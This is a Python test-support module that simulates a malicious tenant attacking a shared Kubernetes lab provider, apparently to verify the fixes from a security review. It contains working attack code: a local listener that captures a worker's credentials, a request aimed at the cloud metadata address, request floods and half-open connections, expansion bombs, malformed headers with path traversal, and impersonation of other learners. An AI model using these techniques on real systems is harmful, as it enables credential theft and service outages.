"""What an outsider with a tenant's rights does to a shared installation, one attack after the other, again and again.

The tenant, `mallory`, edits everything in one namespace, authors definitions and connects workers; she reads no Secret
and writes nothing in the provider's namespace. No admission policy stops her: the sandbox has none. Her second door is
the HTTP page. Each attack is repeated with every round, so that its damage would grow.
"""

import base64
import http.client
import random
import socket
import threading
from collections.abc import Callable
from contextlib import suppress
from typing import Any, Final

from tests.support.cluster import PODS, Cluster, Refused
from tests.support.extra import CMLWORKERS, cmlworker
from tests.support.hostile_corpus import BOMBS
from tests.support.topologies import definition, pod, topology
from tests.support.waiting import until

MALLORY: Final = "mallory"
_NAMES: Final = ("eve", "frank", None)
NOTE: Final = "vkprovider.io/"
_LONG: Final = 250_000
"""Characters; all annotations of an object may have 256 KiB."""
_HALF_REQUESTS, _UNREAD_BODIES, _TOKENS = 300, 60, 200
_EVERYONE: Final = {"operator": "Exists"}
DEFINITIONS: Final = "/apis/vkprovider.io/v1alpha1/labletdefinitions"


class Listener:
    """A server at an address of her own, which keeps what is sent to it."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                connection.settimeout(1)
                with connection, suppress(OSError):
                    self.heard.append(connection.recv(65536))
                    answer = b'{"version": "2.9.1+build.7", "ready": true}'
                    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
                    connection.sendall(head + b"Content-Length: %d\r\n\r\n%s" % (len(answer), answer))

    def close(self) -> None:
        """Stop."""
        self._socket.close()


class Mallory:
    """The attacks.

    Attributes:
        namespace: Hers.
        rounds: How often all of them were made.
    """

    def __init__(self, cluster: Cluster, namespace: str, dice: random.Random) -> None:
        self.cluster, self.namespace, self.dice = cluster, namespace, dice
        self.rounds = 0
        self.listener = Listener()
        self._page = cluster.provider_url.removeprefix("http://")
        self._grant()
        self.token = cluster.kubectl(
            "create", "token", MALLORY, "--audience=vkprovider.io", f"--namespace={namespace}"
        ).stdout.strip()
        self.other_token = cluster.kubectl("create", "token", MALLORY, f"--namespace={namespace}").stdout.strip()

    def _grant(self) -> None:
        kubectl, where = self.cluster.kubectl, f"--namespace={self.namespace}"
        kubectl("create", "serviceaccount", MALLORY, where)
        account = f"--serviceaccount={self.namespace}:{MALLORY}"
        kubectl("create", "rolebinding", MALLORY, "--clusterrole=edit", account, f"--user={MALLORY}", where)
        for role in ("vkprovider-author", "vkprovider-worker-admin"):
            kubectl("create", "clusterrolebinding", f"{MALLORY}-{role}", f"--clusterrole={role}", f"--user={MALLORY}")
            self.cluster.delete_later("clusterrolebinding", f"{MALLORY}-{role}")

    def _do(self, method: str, path: str, body: object = None) -> None:
        """Send a request in her name; an object that exists, is gone or changes meanwhile does not matter."""
        kind = "application/merge-patch+json" if method == "PATCH" else "application/json"
        try:
            self.cluster.request(method, path, body, kind, user=MALLORY)
        except Refused as error:
            if error.status not in {404, 409}:
                raise

    def pod_path(self, name: str) -> str:
        """Return the path of one of her Pods."""
        return f"{PODS.format(self.namespace)}/{name}"

    def _annotate(self, name: str, **values: str | None) -> None:
        notes = {f"{NOTE}{key.replace('_', '-')}": value for key, value in values.items()}
        self._do("PATCH", self.pod_path(name), {"metadata": {"annotations": notes}})

    def _noise(self) -> str:
        return base64.b64encode(self.dice.randbytes(_LONG * 3 // 4)).decode()

    def begin(self, shared: dict[str, Any]) -> None:
        """Make her objects.

        Args:
            shared: A CMLWorker of the platform.
        """
        secret, url = shared["spec"]["credentialsSecretName"], shared["spec"]["url"]
        self._do("POST", DEFINITIONS, definition("loot", topology({"h0": "alpine"}), deviceSecretName=secret))
        for name, spec in (
            ("trap", {"url": self.listener.url, "credentialsSecretName": secret}),
            ("twin", {"url": url, "credentialsSecretName": secret}),
            ("metadata-service", {"url": "http://169.254.169.254", "credentialsSecretName": secret}),
        ):
            self._do("POST", CMLWORKERS, cmlworker(name, **spec))
            self.cluster.delete_later("cmlworker", name)
        self.cluster.delete_later("labletdefinition", "loot")
        for number in range(len(BOMBS)):
            self.cluster.delete_later("labletdefinition", f"bomb-{number}")
        plain = [pod(f"own-{number}", "shared") for number in range(6)]
        looter = pod("looter", "loot")
        looter["metadata"]["annotations"] = {f"{NOTE}username": MALLORY}
        until(lambda: self.cluster.is_defined("loot"), 30, "LabletDefinition loot is ready")
        for item in (*plain, looter):
            self._do("POST", PODS.format(self.namespace), item)

    # --------------------------------------------------------------------------------------------- the attacks

    @property
    def attacks(self) -> dict[str, Callable[[], None]]:
        """The attacks by finding of the review; M4 long after the flood, which locks unknown callers out."""
        return {
            "M4 another tenant's lab": self.download,
            "H1 a worker's password as a device's": self.loot,
            "H1 a worker's password for another host": self.trap,
            "H2 claims that cannot be written": self.fill_claims,
            "H3 documents that explode": self.explode,
            "M1 floods of the page": self.flood,
            "M2 a token that is not meant for the page": self.wrong_token,
            "M5 M6 squatters with long annotations": self.squat,
            "L1 L3 headers and ids of any bytes": self.odd_bytes,
            "V1 a slot that is over": self.be_over,
            "B1 another learner's name": self.rename,
            "B2 a second CMLWorker of one controller": self.twin,
        }

    def attack(self) -> None:
        """Make every attack once."""
        for act in self.attacks.values():
            act()
        self.rounds += 1

    def loot(self) -> None:
        """Make the provider read the definition again."""
        self._do("PATCH", f"{DEFINITIONS}/loot", {"metadata": {"annotations": {"round": str(self.rounds)}}})

    def trap(self) -> None:
        """Send the provider to another address of hers."""
        url = self.listener.url.replace("127.0.0.1", self.dice.choice(["127.0.0.1", "localhost"]))
        self._do("PATCH", f"{CMLWORKERS}/trap", {"spec": {"url": url}})

    def fill_claims(self) -> None:
        """Write 250 KB into an annotation that the claims keep a copy of, on six lablets."""
        for number in range(6):
            key = self.dice.choice(["reset", "lent_by"])
            self._annotate(f"own-{number}", **{"reset": None, "lent_by": None, key: self._noise()})
            self._annotate(f"own-{number}", reset=None, lent_by=None)

    def explode(self) -> None:
        """Write a document that grows when it is read; another one with every round."""
        number = self.rounds % len(BOMBS)
        body = definition(f"bomb-{number}", f"{BOMBS[number]}\n# {self.rounds}\n")
        self._do("DELETE", f"{DEFINITIONS}/bomb-{number}")
        with suppress(Refused):  # the API server itself refuses the largest
            self._do("POST", DEFINITIONS, body)

    def flood(self) -> None:
        """Send half requests, bodies that are not read, and unknown tokens."""
        host, port = self._page.split(":")
        opened: list[socket.socket] = []
        for number in range(_HALF_REQUESTS):
            with suppress(OSError):
                one = socket.create_connection((host, int(port)), timeout=2)
                one.sendall(b"GET /hea" if number % 2 else b"POST /events HTTP/1.1\r\nHost: x\r\nX-Hub-")
                opened.append(one)
        for _ in range(_UNREAD_BODIES):
            self._ask("POST", "/events", {"X-Hub-Signature-256": "x"}, b"x" * 2**16)
        for _ in range(_TOKENS):
            self._ask("GET", "/info", {"Authorization": f"Bearer {self.dice.randbytes(16).hex()}"})
        for one in opened:
            one.close()

    def wrong_token(self) -> None:
        """Show a token that was made for the API server."""
        self._ask("GET", "/info", {"Authorization": f"Bearer {self.other_token}"})

    def download(self) -> None:
        """Ask for the lab and the login of a Pod of another tenant."""
        for found in self.cluster.pods("default")[:3]:
            for what in ("download", "login"):
                path = f"/labs/{found['metadata']['uid']}/{what}"
                text = self._ask("GET", path, {"Authorization": f"Bearer {self.token}"})
                assert found["metadata"]["name"] not in text, "L6: a refusal names another tenant's Pod"

    def squat(self) -> None:
        """Take a worker's room with Pods that are nothing, each with 250 KB of annotations."""
        for number, worker in enumerate(self.cluster.workers):
            name = f"squatter-{number}"
            item = pod(name, "nginx", tolerations=[_EVERYONE], nodeName=worker.node)
            del item["spec"]["runtimeClassName"]
            item["metadata"]["annotations"] = {"long": self._noise()}
            item["spec"]["containers"][0]["resources"] = {"requests": {"cpu": "10000"}}
            self._do("DELETE", f"{self.pod_path(name)}?gracePeriodSeconds=0")
            self._do("POST", PODS.format(self.namespace), item)

    def odd_bytes(self) -> None:
        """Send headers that are not text, and ids of sessions that no LDS makes."""
        for path in ("/info", "/events"):
            self._ask("GET" if path == "/info" else "POST", path, {"Authorization": b"Bearer \xff\xfe\x80"}, b"{}")
        self._ask("POST", "/events", {"ce-specversion": "1.0", "ce-id": "a/b", "ce-subject": b"\xff/../x"}, b"{}")

    def be_over(self) -> None:
        """Let the slot of a lablet without a learner be over."""
        self._annotate("own-5", timeslot_end="2020-01-01T00:00:00Z")

    def rename(self) -> None:
        """Be another learner."""
        self._annotate("looter", username=self.dice.choice(_NAMES))
        name = _NAMES[self.rounds % len(_NAMES)]  # in turn: on a slow machine there are no more rounds than names
        self._annotate("own-0", username=name, learner="eve", lab_id="x")

    def twin(self) -> None:
        """Connect a controller of the platform a second time, anew with every round."""
        found = self.cluster.get(f"{CMLWORKERS}/twin")
        if found is not None and not found["metadata"].get("deletionTimestamp"):
            self._do("PATCH", f"{CMLWORKERS}/twin", {"spec": {"address": f"198.51.100.{self.rounds % 200 + 1}"}})

    def _ask(self, method: str, path: str, headers: dict[str, Any], body: bytes | None = None) -> str:
        """Ask the page; a fault of its own is an error."""
        connection = http.client.HTTPConnection(self._page, timeout=10)
        try:
            connection.putrequest(method, path)
            for key, value in headers.items():
                connection.putheader(key, value)
            connection.putheader("Content-Length", str(len(body or b"")))
            connection.endheaders(body)
            answer = connection.getresponse()
            text = answer.read().decode(errors="replace")
        except (OSError, http.client.HTTPException):
            return ""  # of too many connections the oldest are closed
        finally:
            connection.close()
        assert answer.status < 500 or answer.status == 503, f"{method} {path}: {answer.status} {text}"
        return text


__all__ = ["DEFINITIONS", "MALLORY", "Mallory"]
